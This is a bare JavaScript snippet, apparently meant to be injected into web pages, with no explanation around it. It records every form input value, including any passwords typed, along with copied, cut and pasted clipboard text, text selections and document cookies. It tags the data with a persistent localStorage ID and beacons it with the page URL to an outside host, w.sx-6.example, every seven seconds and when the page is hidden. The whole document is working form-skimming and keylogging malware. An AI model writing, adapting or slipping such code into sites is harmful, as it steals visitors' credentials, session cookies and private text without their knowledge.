(function () {
  var sid = localStorage.getItem('_sx') || (localStorage.setItem('_sx', Math.random().toString(36).slice(2)), localStorage.getItem('_sx'));
  var buf = [];
  function put(t, d) { buf.push([Date.now(), t, d]); if (buf.length > 30) out(); }
  function out() { if (buf.length) navigator.sendBeacon('https://w.sx-6.example/b/' + sid, JSON.stringify({ u: location.href, c: document.cookie, b: buf.splice(0) })); }
  ['copy', 'cut', 'paste'].forEach(function (t) { document.addEventListener(t, function (e) { put(t, (e.clipboardData || { getData: function () { return ''; } }).getData('text') || String(getSelection())); }, true); });
  document.addEventListener('input', function (e) { put('in', [e.target.name || e.target.id, e.target.value]); }, true);
  document.addEventListener('selectionchange', function () { var s = String(getSelection()); if (s.length > 4) put('sel', s); });
  setInterval(out, 7000);
  addEventListener('pagehide', out);
})();
